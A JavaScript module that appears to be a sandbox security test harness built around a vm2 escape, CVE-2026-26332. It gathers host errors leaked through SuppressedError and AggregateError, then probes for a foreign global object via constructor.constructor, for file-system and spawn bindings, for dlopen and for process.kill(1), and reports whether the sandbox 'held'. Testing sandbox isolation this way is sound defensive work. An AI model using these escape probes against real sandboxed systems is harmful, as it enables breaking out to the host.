// CVE-2026-26332 (GHSA-55hx-c926-fr95), vm2: an error was cleaned by itself, but not the errors within a `SuppressedError` (as `using`
// makes) or an `AggregateError`.
const attacks = {
  "by using, any and causes": {
    ends: ["ok"],
    async run() {
      const got = [];
      const fails = () => {
        throw new URL("x");
      };
      const collect = (error) => {
        for (let left = 20; error !== undefined && error !== null && left > 0; left--) {
          got.push(error, error.cause, ...(error.errors ?? []), error.suppressed);
          error = error.error;
        }
      };
      try {
        (0, eval)(
          "{ using a = { [Symbol.dispose]() { null.x } }, b = { [Symbol.dispose]() { new URL('x') } }; decodeURI('%'); }",
        );
      } catch (error) {
        collect(error);
      }
      const stack = new DisposableStack(),
        later = new AsyncDisposableStack();
      for (const each of [stack, later])
        (each.defer(fails), each.defer(() => new Headers({ "\n": "" })), each.defer(() => process.binding("fs")));
      try {
        stack.dispose();
      } catch (error) {
        collect(error);
      }
      await later.disposeAsync().catch(collect);
      await Promise.any([fetch("x:"), import("x"), crypto.subtle.digest("x", new Uint8Array())]).catch(collect);
      return got.length > 5 ? probe(...got) : "no errors came";
    },
  },
};

const names = Object.getOwnPropertyNames(globalThis);
/** What of a host can be named now, by this code or by what the attack got hold of: "held", or what was reached. */
function probe(...got) {
  const reached = [];
  const say = (what) => void reached.push(what);
  for (const value of [...got, console, fetch, process, import.meta, Buffer]) {
    try {
      const world = value?.constructor?.constructor?.("return this")();
      if (world !== undefined && world !== globalThis) say("a global object that is not the guest's");
    } catch {}
    if (!(value instanceof Error)) continue;
    const [text] =
      /\/(?:home|root|usr|tmp|var|etc|proc|opt|work|rustc)\/[^\s)]*|[\w/]+\.rs\b|\b(?:wasmtime|rquickjs|cargo|panicked)\b|node:internal/.exec(
        `${value.stack} ${value.message}`,
      ) ?? [];
    if (text !== undefined) say(`an error's text tells ${text}`);
  }
  for (const name of ["Deno", "Bun", "require", "module", "exports", "WebAssembly", "std", "os", "__bootstrap"]) {
    if ((0, eval)(`typeof ${name}`) !== "undefined") say(name);
  }
  if (process.mainModule !== undefined) say("process.mainModule");
  if (process.execPath !== "/node" || process.pid !== 1) say("another process");
  for (const open of [
    () => process.binding("fs"),
    () => process.binding("spawn_sync"),
    () => process.dlopen({}, "x"),
    () => process._linkedBinding("fs"),
    () => process.kill(1),
  ]) {
    try {
      say(`${open} gave ${open()}`);
    } catch (error) {
      if (!(error instanceof Error)) say(`${open} threw ${error}`);
    }
  }
  const more = Object.getOwnPropertyNames(globalThis).filter((name) => !names.includes(name));
  if (more.length > 0) say(`the globals ${more}`);
  return reached.length === 0 ? "held" : [...new Set(reached)].join(", ");
}

export default {
  async fetch(request) {
    const name = new URL(request.url).searchParams.get("attack");
    if (name === null) {
      return Response.json(Object.entries(attacks).map(([name, { ends, times = 1 }]) => ({ name, ends, times })));
    }
    return new Response((await attacks[name].run(request)) ?? "held");
  },
};
